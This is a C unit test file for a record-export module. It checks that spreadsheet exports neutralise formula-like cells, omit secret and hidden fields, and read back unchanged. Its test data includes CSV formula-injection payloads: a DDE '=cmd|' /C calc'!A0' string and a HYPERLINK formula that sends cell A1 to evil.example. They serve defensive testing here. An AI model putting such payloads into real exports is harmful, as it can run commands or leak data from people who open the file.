/* Records as files: what a spreadsheet could run is disarmed and comes back, and nothing that is stored is lost or changed. */
#include "tests/unit/entity_fixture.h"

#include "lib/entity/export.h"
#include "lib/entity/local_time.h"
#include "lib/entity/phone.h"
#include "lib/entity/sheet.h"
#include "lib/text/csv.h"

/* clang-format off */
enum { NAME, NOTES, PHONE, HOURS, PRICE, PAID, STARTS, DAY, STATE, USER, TAGS, API, SECRET, HIDDEN, NOT_FOR_EXPORT, FIELDS };
static const struct field job_fields[] = {
	[NAME] = {.name = "name", .label = "Name", .group = "What", .type = FIELD_TEXT, .flags = FIELD_EXPORTABLE},
	[NOTES] = {.name = "notes", .label = "=Notes", .type = FIELD_LONG_TEXT, .flags = FIELD_EXPORTABLE},
	[PHONE] = {.name = "phone", .label = "Phone", .type = FIELD_PHONE, .flags = FIELD_EXPORTABLE},
	[HOURS] = {.name = "hours", .label = "Hours", .type = FIELD_NUMBER, .flags = FIELD_EXPORTABLE},
	[PRICE] = {.name = "price_cents", .label = "Price", .type = FIELD_MONEY, .flags = FIELD_EXPORTABLE},
	[PAID] = {.name = "paid", .label = "Paid", .type = FIELD_BOOL, .flags = FIELD_EXPORTABLE},
	[STARTS] = {.name = "starts_at", .label = "Starts", .type = FIELD_INSTANT, .flags = FIELD_EXPORTABLE},
	[DAY] = {.name = "day", .label = "Day", .type = FIELD_DATE, .flags = FIELD_EXPORTABLE},
	[STATE] = {.name = "state", .label = "State", .type = FIELD_CHOICE, .flags = FIELD_EXPORTABLE, .choices = visit_states},
	[USER] = {.name = "user_id", .label = "Person", .type = FIELD_REFERENCE, .flags = FIELD_EXPORTABLE, .references = "tenant_users", .reference_label = "name"},
	[TAGS] = {.name = "tags", .label = "Tags", .type = FIELD_TAGS, .flags = FIELD_EXPORTABLE},
	[API] = {.name = "api", .label = "Api", .type = FIELD_TEXT, .flags = FIELD_EXPORTABLE | FIELD_API_ONLY | FIELD_READ_ONLY},
	[SECRET] = {.name = "secret", .label = "Secret", .type = FIELD_PASSWORD, .flags = FIELD_EXPORTABLE | FIELD_WRITE_ONLY},
	[HIDDEN] = {.name = "hidden", .label = "Hidden", .type = FIELD_TEXT, .flags = FIELD_EXPORTABLE | FIELD_INTERNAL},
	[NOT_FOR_EXPORT] = {.name = "other", .label = "Other", .type = FIELD_TEXT},
};
/* clang-format on */

static const struct entity job = {.name = "job",
				  .plural = "jobs",
				  .label = "Job",
				  .label_plural = "Jobs",
				  .table = "jobs",
				  .fields = job_fields,
				  .field_count = FIELDS,
				  .title_field = "name",
				  .default_sort = "name"};

#define ID "00000000-0000-0000-0000-000000000000"
#define NO_TIMES "0,1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.000Z\r\n"

static struct str exported(const struct record *record, enum export_format format, const int *columns, size_t count)
{
	struct list_query query = {.limit = 25};
	struct export *export = export_new(arena, record_entity(record), format, &query);
	struct buffer out = BUFFER_IN(arena);

	if (columns)
		export_columns(export, columns, count, false);
	export_put_head(export, &out);
	export_put_record(export, record, &out);
	return buffer_str(&out);
}

static struct record *full(void)
{
	static const struct {
		int field;
		const char *stored;
	} values[] = {
		{NAME, "Ann \"A\" Lee, junior"},
		{NOTES, "one\ntwo; three"},
		{PHONE, "+1 512 555 0123 x9"},
		{HOURS, "-2.5"},
		{PRICE, "125050"},
		{PAID, "t"},
		{STARTS, "2026-11-23T20:05:00.000Z"},
		{DAY, "2026-11-23"},
		{STATE, "open"},
		{USER, "01900000-0000-7000-8000-000000000001"},
		{TAGS, "Old\nVIP, gold"},
		{API, "a"},
		{SECRET, "geheim"},
		{HIDDEN, "unseen"},
		{NOT_FOR_EXPORT, "unsaid"},
	};
	struct record *record = record_new(arena, &job);

	for (size_t i = 0; i < COUNT_OF(values); i++)
		record_set(record, values[i].field, str_from(values[i].stored));
	return record;
}

/* ---- formulas ---- */

static void what_a_spreadsheet_may_run_is_known(void **state)
{
	static const char *const formulas[] = {"=1+1",
					       "=",
					       "+1 512 555 0123",
					       "-1",
					       "- see below",
					       "@SUM(1)",
					       "\t=1",
					       "\tx",
					       "\r1",
					       "\n=1",
					       "  =1",
					       "\u00A0=1",
					       "\u3000=1",
					       "\uFEFF=1",
					       "\u200B \u200B@x",
					       "\uFF1D1+1",
					       "\uFF0B1",
					       "\uFF0D1",
					       "\uFF20x",
					       "\uFE661",
					       "\u22121",
					       "\"=1+1",
					       "'=1+1",
					       "''=1+1",
					       "\" '=1",
					       "\u201C=1",
					       "\uFF02=1",
					       "=cmd|' /C calc'!A0",
					       "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
					       NULL};
	static const char *const words[] = {
		"",  "Ann",    "a=b",   "1+1",     "(512) 555-0123", "2026-11-23",      "'quoted'", "'", "\"said\"",
		" ", "O'Neil", "5 - 3", "\u00E9=", "\u4E2D\u6587",   "ann@example.com", "#1",       NULL};

	(void)state;
	for (size_t i = 0; formulas[i]; i++) {
		struct str cell = str_from(formulas[i]), guarded = sheet_guarded(arena, cell);

		if (!sheet_is_formula(cell))
			fail_msg("%s is taken for words", formulas[i]);
		assert_int_equal(guarded.p[0], '\'');
		assert_true(str_equal(sheet_without_guard(guarded), cell));
	}
	for (size_t i = 0; words[i]; i++) {
		struct str cell = str_from(words[i]);

		if (sheet_is_formula(cell))
			fail_msg("%s is taken for a formula", words[i]);
		assert_true(str_equal(sheet_guarded(arena, cell), cell));
		assert_true(str_equal(sheet_without_guard(cell), cell));
	}
}

/* Whatever the first four characters are: no text is ambiguous, so that an import can take the guard off again. */
static void a_guard_is_taken_off_what_had_one_and_nothing_else(void **state)
{
	static const char letters[] = "='\"+ \ta";
	char text[5] = "";

	(void)state;
	for (size_t i = 0; i < 7 * 7 * 7 * 7; i++) {
		struct str cell = {text, 4};

		for (size_t d = 0, n = i; d < 4; d++, n /= 7)
			text[d] = letters[n % 7];
		assert_true(str_equal(sheet_without_guard(sheet_guarded(arena, cell)), cell));
	}
}

static void every_cell_of_a_sheet_is_disarmed_but_numbers_stay_numbers(void **state)
{
	static const int columns[] = {NAME, NOTES, PHONE, HOURS, PRICE, TAGS};
	struct record *record = record_new(arena, &job);
	struct str file;

	(void)state;
	record_set(record, NAME, STR("=cmd|' /C calc'!A0"));
	record_set(record, NOTES, STR("- first\n- second"));
	record_set(record, PHONE, STR("+44 20 7946 0018"));
	record_set(record, HOURS, STR("-2.5"));
	record_set(record, PRICE, STR("5"));
	record_set(record, TAGS, STR("@home"));
	file = exported(record, EXPORT_SHEET, columns, COUNT_OF(columns));
	assert_str(file, CSV_MARK
		   "Name,\"'=Notes\",Phone,Hours,Price,Tags\r\n"
		   "\"'=cmd|' /C calc'!A0\",\"'- first\n- second\",\"'+44 20 7946 0018\",-2.5,0.05,\"'@home\"\r\n");
}

/* ---- the three forms ---- */

static void a_sheet_reads_as_people_write(void **state)
{
	(void)state;
	local_time_zone(STR("America/Chicago"));
	assert_str(exported(full(), EXPORT_SHEET, NULL, 0), CSV_MARK
		   "Name,\"'=Notes\",Phone,Hours,Price,Paid,Starts,Day,State,Person,Tags,Id of the record\r\n"
		   "\"Ann \"\"A\"\" Lee, junior\",\"one\ntwo; three\",(512) 555-0123 x9,-2.5,1250.50,Yes,"
		   "2026-11-23 14:05,2026-11-23,Open,01900000-0000-7000-8000-000000000001,\"Old; VIP, gold\"," ID
		   "\r\n");
	local_time_zone(STR_NONE);
}

static void a_raw_file_has_what_is_stored(void **state)
{
	(void)state;
	assert_str(exported(full(), EXPORT_RAW, NULL, 0),
		   "id,name,notes,phone,hours,price_cents,paid,starts_at,day,state,user_id,tags,api,version,created_at,"
		   "updated_at\r\n" ID
		   ",\"Ann \"\"A\"\" Lee, junior\",\"one\ntwo; three\",+1 512 555 0123 x9,-2.5,125050,"
		   "t,2026-11-23T20:05:00.000Z,2026-11-23,open,01900000-0000-7000-8000-000000000001,\"Old\nVIP, "
		   "gold\",a," NO_TIMES);
}

static void a_line_is_what_the_api_has(void **state)
{
	struct value *map = value_map(arena);
	struct buffer wanted = BUFFER_IN(arena);
	struct record *record = full();

	(void)state;
	record_to_value(record, map);
	json_print(map, &wanted);
	buffer_add_char(&wanted, '\n');
	assert_str(exported(record, EXPORT_LINES, NULL, 0), buffer_str(&wanted).p);
	assert_null(memchr(wanted.bytes, '\n', wanted.length - 1));
}

static void nothing_that_is_not_to_be_seen_goes_out(void **state)
{
	static const int columns[] = {NAME, API, SECRET, HIDDEN, NOT_FOR_EXPORT};

	(void)state;
	for (int format = EXPORT_SHEET; format <= EXPORT_LINES; format++) {
		const char *file = exported(full(), (enum export_format)format, columns, COUNT_OF(columns)).p;

		assert_null(strstr(file, "geheim"));
		assert_null(strstr(file, "unseen"));
	}
	assert_str(exported(full(), EXPORT_SHEET, columns, COUNT_OF(columns)),
		   CSV_MARK "Name\r\n\"Ann \"\"A\"\" Lee, junior\"\r\n");
}

static void what_has_no_value_is_an_empty_cell(void **state)
{
	(void)state;
	assert_str(exported(record_new(arena, &job), EXPORT_RAW, NULL, 0),
		   "id,name,notes,phone,hours,price_cents,paid,starts_at,day,state,user_id,tags,api,version,created_at,"
		   "updated_at\r\n" ID ",,,,,,,,,,,,," NO_TIMES);
}

/* ---- read again ---- */

struct cells {
	struct str values[32];
	size_t rows, count;
};

static bool take(void *context, const struct csv_row *row)
{
	struct cells *cells = context;

	assert_null(row->complaint);
	cells->rows++;
	cells->count = row->count;
	for (size_t i = 0; i < row->count; i++)
		cells->values[i] = arena_copy(arena, row->cells[i]);
	return true;
}

static void whatever_a_cell_holds_it_is_read_back(void **state)
{
	static const char *const pieces[] = {"a", "\"", "\"\"", ",",      "\n",         "\r\n", "\r",   ";", "\t",
					     "|", "'",  " ",    "\u00E9", "\U0001F6E0", "=",    "x\"y", NULL};
	struct csv_form form = {CSV_UTF8, ',', 0};

	(void)state;
	for (size_t i = 0; pieces[i]; i++)
		for (size_t k = 0; pieces[k]; k++) {
			struct str cell = arena_printf(arena, "%s%s", pieces[i], pieces[k]);
			struct cells cells = {.rows = 0};
			struct buffer out = BUFFER_IN(arena);
			struct csv_reader *reader = csv_reader_new(arena, &form, 0, take, &cells);

			csv_write_cell(&out, cell, true);
			csv_write_cell(&out, STR("end"), false);
			csv_write_end(&out);
			assert_int_equal(csv_reader_feed(reader, buffer_str(&out)), CSV_MORE);
			assert_int_equal(csv_reader_end(reader), CSV_MORE);
			assert_int_equal(cells.rows, 1);
			assert_int_equal(cells.count, 2);
			assert_true(str_equal(cells.values[0], cell));
		}
}

static void a_huge_cell_is_whole(void **state)
{
	struct csv_form form = {CSV_UTF8, ',', 0};
	struct cells cells = {.rows = 0};
	struct buffer text = BUFFER_IN(arena);
	struct csv_reader *reader = csv_reader_new(arena, &form, 0, take, &cells);
	struct record *record = record_new(arena, &job);
	struct str file;

	(void)state;
	while (text.length < 40000)
		BUFFER_LITERAL(&text, "\"\U0001F525\", ");
	record_set(record, NOTES, buffer_str(&text));
	file = exported(record, EXPORT_RAW, NULL, 0);
	assert_int_equal(csv_reader_feed(reader, file), CSV_MORE);
	assert_int_equal(csv_reader_end(reader), CSV_MORE);
	assert_int_equal(cells.rows, 2);
	assert_true(str_equal(cells.values[2], buffer_str(&text)));
}

static void an_american_number_is_written_as_at_home(void **state)
{
	static const char *const cases[][2] = {{"+1 512-555-0123", "(512) 555-0123"},
					       {"512.555.0123", "(512) 555-0123"},
					       {"+15125550123 ext. 4", "(512) 555-0123 ext. 4"},
					       {"+44 20 7946 0018", NULL},
					       {"555-0123", NULL},
					       {"call", NULL}};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct str national = phone_national(arena, str_from(cases[i][0]));

		if (cases[i][1])
			assert_str(national, cases[i][1]);
		else
			assert_true(str_absent(national));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(what_a_spreadsheet_may_run_is_known),
		TEST(a_guard_is_taken_off_what_had_one_and_nothing_else),
		TEST(every_cell_of_a_sheet_is_disarmed_but_numbers_stay_numbers),
		TEST(a_sheet_reads_as_people_write),
		TEST(a_raw_file_has_what_is_stored),
		TEST(a_line_is_what_the_api_has),
		TEST(nothing_that_is_not_to_be_seen_goes_out),
		TEST(what_has_no_value_is_an_empty_cell),
		TEST(whatever_a_cell_holds_it_is_read_back),
		TEST(a_huge_cell_is_whole),
		TEST(an_american_number_is_written_as_at_home),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
